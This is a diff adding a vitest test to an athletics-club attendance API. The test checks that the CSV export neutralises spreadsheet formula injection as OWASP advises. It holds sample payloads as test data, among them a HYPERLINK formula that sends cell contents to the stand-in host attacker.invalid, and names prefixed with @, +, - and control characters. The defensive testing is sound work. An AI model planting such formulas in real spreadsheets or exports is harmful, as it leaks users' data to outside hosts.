@@ -1,4 +1,5 @@
-import { describe, expect, it } from "vitest"
+import { parse } from "csv-parse/sync"
+import { describe, expect, it, onTestFinished } from "vitest"
 import { expectJson, expectProblem, expectStatus } from "../../expectations.ts"
 import type { Club } from "../Club.ts"
 import { createAthlete, createSession, createUser, missingId, tokenOf } from "../records.ts"
@@ -363,6 +364,69 @@ export const attendanceEndpoints = (club: () => Club) => {
           ordered(s1, "2012-02-01T18:00:00", { [own]: "present", [other]: "absent" }) +
           ordered(s2, "2012-02-29T18:00:00", { [own]: "absent", [other]: "excused" })
       )
+    })
+
+    it("neutralises cells a spreadsheet would evaluate (OWASP CSV injection): a quote before them, quoted; ids stay numbers", async () => {
+      const hyperlink = "=HYPERLINK(\"http://attacker.invalid/?\"&A2,\"open\")"
+      // An athlete may rename its own record: the issue's attack.
+      const renamed = async (name: string) =>
+        expectStatus(
+          await club().athlete.put(`/athletes/${club().athleteId}`, { name, categorie: "Senior", niveau: "A" }),
+          200
+        )
+      await renamed(hyperlink)
+      onTestFinished(() => renamed("Alex Athlete"))
+      const names = ["@SUM(1+1)", "+1+2", "-2+3", "\tTabbed", "\rReturned", "Plain"]
+      const others = await Promise.all(names.map(async (name) => (await createAthlete(club(), { name })).id))
+      const athleteIds = [club().athleteId, ...others]
+      const { id } = await createSession(club(), {
+        creneau: "2013-05-07T18:00:00",
+        coachId: club().coachId,
+        athleteIds,
+        groupe: "+Seniors",
+        name: "@Track"
+      })
+      expectStatus(
+        await club().coach.put(`/attendance/sessions/${id}/presence`, {
+          marks: athleteIds.map((athleteId) => ({ athleteId, status: "present" }))
+        }),
+        200
+      )
+      const csv = await club().coach.get("/attendance/export?from=2013-05-07&to=2013-05-07")
+      expectStatus(csv, 200)
+      const rows = parse(csv.text, {
+        record_delimiter: "\r\n",
+        relax_quotes: false,
+        relax_column_count: false
+      }) as Array<
+        Array<string>
+      >
+      expect(rows[0]).toEqual([
+        "session_id",
+        "creneau",
+        "session_name",
+        "groupe",
+        "athlete_id",
+        "athlete_name",
+        "status"
+      ])
+      const expectedNames = new Map([hyperlink, ...names].map((name, index) => [athleteIds[index]!, name]))
+      expect(rows.slice(1)).toEqual(
+        [...athleteIds].sort((x, y) => x - y).map((athleteId) => {
+          const name = expectedNames.get(athleteId)!
+          return [
+            String(id),
+            "2013-05-07T18:00:00",
+            "'@Track",
+            "'+Seniors",
+            String(athleteId),
+            name === "Plain" ? name : `'${name}`,
+            "present"
+          ]
+        })
+      )
+      // Every neutralised cell is a quoted field, as OWASP advises.
+      expect(csv.text).toContain(`,"'@Track","'+Seniors",`)
     })
 
     it("answers 400 naming to when it is before from, naming from when it is not a date", async () => {
